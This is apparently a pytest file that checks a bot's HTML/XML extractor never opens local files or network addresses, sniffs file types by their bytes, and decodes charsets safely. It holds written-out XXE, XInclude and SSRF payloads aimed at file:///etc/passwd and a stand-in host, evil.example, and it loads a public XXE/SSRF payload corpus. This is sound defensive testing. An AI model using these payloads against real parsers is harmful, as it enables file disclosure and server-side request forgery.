"""Documents that ask their reader for something: files, addresses, another alphabet."""

import re
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from bot.sources.extraction.extractor import Request
from bot.sources.extraction.html import read_html
from bot.sources.extraction.sniff import Kind, decode, sniff
from bot.sources.extraction.text import Extraction
from bot.sources.extraction.worker import _extract
from handlers.model import SourceOutcome
from tests.shared_data import shared_data

_URL = "https://a.example/page"
_ON_DISK = "the words of a file on this machine"
_STORY = b"<p>" + b"The flood reached the second step of the town hall. " * 9 + b"</p>"
_OWN = (
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a>words</a>',
    '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><a>words</a>',
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text"'
    ' href="file:///etc/passwd"/></a>',
    '<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?><a>words</a>',
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/x"/>'
    '<use href="file:///etc/passwd#a"/></svg>',
    '<html><head><base href="http://evil.example/"><link rel="stylesheet" href="x">'
    '<meta http-equiv="refresh" content="0;url=http://evil.example/"></head>'
    '<body><iframe src="file:///etc/passwd"></iframe><img src="http://evil.example/">'
    '<object data="http://evil.example/"></object><p>words</p></body></html>',
)


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    with socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        listening.listen()
        listening.setblocking(False)
        yield listening


def _collected() -> Iterator[str]:
    folder = shared_data("security_corpora/payloads-all-the-things")
    for name in ("XXE Injection", "Server Side Request Forgery/Files"):
        for file in sorted((folder / name).rglob("*")):
            if file.is_file():
                text = file.read_text("utf-8", "replace")
                yield text
                yield from text.splitlines() if file.suffix == ".txt" else ()


def _read(body: bytes) -> Iterator[Extraction]:
    declared = b"<?xml version='1.0'?>"
    yield _extract(Request("xml", "application/xml", _URL), body)
    yield _extract(Request("xml", "image/svg+xml", _URL), declared + body)
    yield _extract(Request("html", "text/html", _URL), body)
    yield _extract(Request("html", "text/html", _URL), _STORY + body)


@pytest.mark.shared_data
def test_no_document_has_its_reader_open_a_file_or_an_address(
    tmp_path: Path, listener: socket.socket
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(f"{_ON_DISK}\n" * 9, "utf-8")
    here = f"http://127.0.0.1:{listener.getsockname()[1]}/x"
    tried = 0
    for text in dict.fromkeys((*_OWN, *_collected())):
        aimed = re.sub(r"(?:https?|ftp)://(?!www\.w3\.org)[^\s\"'<>]+", here, text)
        aimed = re.sub(r"file:/+[^\s\"'<>#]+", secret.as_uri(), aimed)
        for found in _read(aimed.encode().replace(b"/etc/passwd", bytes(secret))):
            tried += 1
            assert found.document is None or _ON_DISK not in found.document.text, text

    with pytest.raises(BlockingIOError):
        listener.accept()
    assert tried > 200


@pytest.mark.parametrize(
    ("body", "served_as", "kind"),
    [
        (b"GIF89a/*" + _STORY, "text/html", Kind.OTHER),
        (b"\x89PNG\r\n\x1a\n" + _STORY, "text/html", Kind.OTHER),
        (b"PK\x03\x04" + _STORY, "text/html", Kind.OTHER),
        (b"\xff\xd8\xff\xe0" + _STORY, "application/pdf", Kind.OTHER),
        (b"\x00\x00\x00\x18ftypmp42" + _STORY, "text/html", Kind.OTHER),
        (b"\x7fELF\x02\x01" + _STORY, "text/plain", Kind.OTHER),
        (b"Rar!\x1a\x07" + _STORY, "text/plain", Kind.OTHER),
        (b"%PDF-1.7\n" + _STORY, "text/html", Kind.PDF),
        (b"<!doctype html>" + _STORY + b"%PDF-1.7", "application/pdf", Kind.HTML),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "image/png", Kind.OTHER),
    ],
)
def test_bytes_decide_what_a_document_of_two_kinds_is(
    body: bytes, served_as: str, kind: Kind
) -> None:
    assert sniff(body, served_as).kind is kind


def _encoded() -> Iterator[tuple[bytes, str]]:
    folder = shared_data("security_corpora/html5lib-tests/encoding")
    for file in sorted(folder.rglob("*.dat")):
        for case in file.read_bytes().split(b"#data\n")[1:]:
            data, _, named = case.partition(b"\n#encoding\n")
            if b"<script" not in data.lower():  # which we never run
                yield data, named.split(b"\n")[0].strip().decode().lower()


@pytest.mark.shared_data
def test_whatever_alphabet_a_page_claims_it_is_text_or_a_named_outcome() -> None:
    cases = list(_encoded())

    for data, named in cases:
        body = data + _STORY
        for header in (None, f"text/html; charset={named}", "text/html; charset=utf-7"):
            decode(body, content_type=header).encode()  # no half of a letter
            found = read_html(body, content_type=header, url=_URL)
            assert found.outcome is not SourceOutcome.READ or found.document, data
            assert found.detail
    assert len(cases) > 50
